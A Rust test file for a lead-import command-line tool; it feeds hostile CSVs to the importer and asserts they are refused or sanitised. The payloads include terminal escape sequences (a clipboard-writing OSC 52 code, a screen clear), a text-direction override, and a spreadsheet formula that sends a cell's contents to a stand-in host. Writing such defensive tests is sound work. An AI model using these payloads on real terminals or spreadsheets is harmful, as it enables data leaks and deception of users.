//! A corpus of hostile import files, made here and imported by the real
//! `dcc`: each is refused with a message naming what is wrong (and nothing
//! is imported), or its bad rows are rejected with their line and reason.

mod common;

use std::path::{Path, PathBuf};
use std::process::Output;

const NOW: &str = "2026-11-23T10:00";

struct Desk {
    dir: tempfile::TempDir,
    db: PathBuf,
}

fn desk() -> Desk {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("dcc.sqlite");
    let out = dcc(&db, &["init", "--name", "张主管"]);
    assert!(out.status.success(), "{out:?}");
    Desk { dir, db }
}

fn dcc(db: &Path, args: &[&str]) -> Output {
    common::dcc_as(db, "boss", NOW).args(args).output().unwrap()
}

impl Desk {
    fn file(&self, name: &str, bytes: &[u8]) -> String {
        let p = self.dir.path().join(name);
        std::fs::write(&p, bytes).unwrap();
        p.to_str().unwrap().to_string()
    }

    fn names(&self) -> Vec<String> {
        let c = rusqlite::Connection::open(&self.db).unwrap();
        let mut st = c.prepare("SELECT name FROM leads ORDER BY id").unwrap();
        st.query_map([], |r| r.get(0))
            .unwrap()
            .map(|r| r.unwrap())
            .collect()
    }

    /// Refused in both languages, saying `en` / `zh`, nothing imported.
    fn refused(&self, file: &str, en: &str, zh: &str) {
        for (lang, said, nothing) in [
            ("en", en, "nothing was imported"),
            ("zh-CN", zh, "未导入任何内容"),
        ] {
            let out = dcc(&self.db, &["--lang", lang, "import", file]);
            let err = String::from_utf8_lossy(&out.stderr);
            assert_eq!(out.status.code(), Some(1), "{file} ({lang}): {err}");
            assert!(err.contains(said), "{file} ({lang}): {err}");
            assert!(err.contains(nothing), "{file} ({lang}): {err}");
        }
        assert!(self.names().is_empty(), "{file}: nothing imported");
    }
}

const HEADER: &str = "姓名,手机,渠道,意向车型,预计购车时间\n";

fn row(name: &str, phone: &str) -> String {
    format!("{name},{phone},汽车之家,凯美瑞,一周内\n")
}

#[test]
fn a_csv_mixing_utf8_and_gbk_is_refused_naming_the_first_odd_line() {
    let d = desk();
    let mut bytes = format!(
        "{HEADER}{}{}",
        row("张三", "13812345678"),
        row("李四", "13912345678")
    )
    .into_bytes();
    bytes.extend_from_slice(&encoding_rs::GBK.encode(&row("王五", "13712345678")).0);
    bytes.extend_from_slice(row("赵六", "13612345678").as_bytes());
    let f = d.file("mixed.csv", &bytes);
    d.refused(
        &f,
        "line 4 is not valid UTF-8, while the rest of the file is UTF-8",
        "第 4 行不是有效的 UTF-8 编码",
    );
    // And the other way round: GBK with a line pasted in UTF-8.
    let mut bytes = encoding_rs::GBK
        .encode(&format!(
            "{HEADER}{}{}",
            row("张三", "13812345678"),
            row("李四", "13912345678")
        ))
        .0
        .to_vec();
    bytes.extend_from_slice(row("王五", "13712345678").as_bytes());
    let f = d.file("mixed-gbk.csv", &bytes);
    d.refused(
        &f,
        "line 4 is in UTF-8, while the rest of the file is GBK/GB18030",
        "第 4 行是 UTF-8 编码，而文件其余部分是 GBK/GB18030 编码",
    );
}

#[test]
fn two_columns_for_one_field_are_refused_naming_both_and_one_can_be_ignored() {
    let d = desk();
    let f = d.file(
        "twins.csv",
        "姓名,手机,渠道,意向车型,预计购车时间,电话\n张三,13812345678,汽车之家,凯美瑞,一周内,13912345678\n"
            .as_bytes(),
    );
    d.refused(
        &f,
        "the columns 手机 (B) and 电话 (F) both name the phone",
        "手机 (B) 和 电话 (F) 两列都是电话",
    );
    let f2 = d.file(
        "names.csv",
        "姓名,手机,渠道,意向车型,客户姓名\n张三,13812345678,汽车之家,凯美瑞,李四\n".as_bytes(),
    );
    d.refused(
        &f2,
        "姓名 (A) and 客户姓名 (E) both name the name",
        "姓名 (A) 和 客户姓名 (E)",
    );
    let out = dcc(&d.db, &["import", &f, "--map", "电话=ignore"]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(d.names(), ["张三"]);
}

#[test]
fn nul_bytes_and_utf16_without_a_mark() {
    let d = desk();
    let mut bytes = format!("{HEADER}{}", row("张三", "13812345678")).into_bytes();
    bytes.extend_from_slice(b"\xe6\x9d\x8e\x00\xe5\x9b\x9b,13912345678,x,y,z\n");
    let f = d.file("nul.csv", &bytes);
    d.refused(
        &f,
        "line 3: holds a NUL byte (binary data, not text)",
        "第 3 行含有 NUL 字节",
    );
    // Excel's "Unicode text" saved by a tool that drops the mark: read.
    let text = format!("{HEADER}{}", row("张三", "13812345678")).replace(',', "\t");
    let le: Vec<u8> = text.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    let f = d.file("utf16.txt", &le);
    let out = dcc(&d.db, &["import", &f]);
    assert!(out.status.success(), "{out:?}");
    assert!(String::from_utf8_lossy(&out.stdout).contains("text, UTF-16"));
    assert_eq!(d.names(), ["张三"]);
}

#[test]
fn hostile_rows_are_rejected_with_their_reason_and_the_rest_imported() {
    let d = desk();
    let long = "长".repeat(1 << 20);
    let text = [
        HEADER.to_string(),
        row("张三", "13812345678"),
        row("\u{1b}]52;c;aGVsbG8K\u{7}李四", "13912345678"),
        row("\u{1b}[2J王五", "13712345678"),
        row("赵\u{202e}六", "13612345678"),
        row("孙\u{200b}七", "13512345678"),
        row(&long, "13412345678"),
        row("=HYPERLINK(\"http://x/?\"&A1)", "13312345678"),
    ]
    .concat();
    let f = d.file("hostile.csv", text.as_bytes());
    let out = dcc(&d.db, &["import", &f]);
    assert!(out.status.success(), "{out:?}");
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(said.len() < 4096, "the long name is not printed back");
    assert!(said.contains("5 rejected"), "{said}");
    for line in ["line 3:", "line 4:", "line 5:", "line 6:", "line 7:"] {
        assert!(said.contains(line), "{line}: {said}");
    }
    assert!(said.contains("the limit is 50"), "{said}");
    assert!(!said.contains('\u{1b}'), "no escape reaches the terminal");
    assert_eq!(d.names(), ["张三", "=HYPERLINK(\"http://x/?\"&A1)"]);
    // The formula stays text in every CSV dcc writes.
    let report = std::fs::read_to_string(format!("{f}.rejected.csv")).unwrap();
    let first = |c: char| {
        report
            .lines()
            .find(|l| l.contains(c))
            .map(|l| l.chars().take(200).collect::<String>())
    };
    assert_eq!(first('\u{1b}'), None, "no escape in the report");
    assert_eq!(
        first('\u{202e}'),
        None,
        "no direction control in the report"
    );
    assert!(
        report.contains("\\x1b]52;c;aGVsbG8K\\x07李四"),
        "shown, not obeyed"
    );
    let out = dcc(&d.db, &["queue", "--date", "2026-11-24", "--format", "csv"]);
    let csv = String::from_utf8_lossy(&out.stdout);
    assert!(
        !csv.contains(",=HYPERLINK") && !csv.contains("\n=HYPERLINK"),
        "{csv}"
    );
}
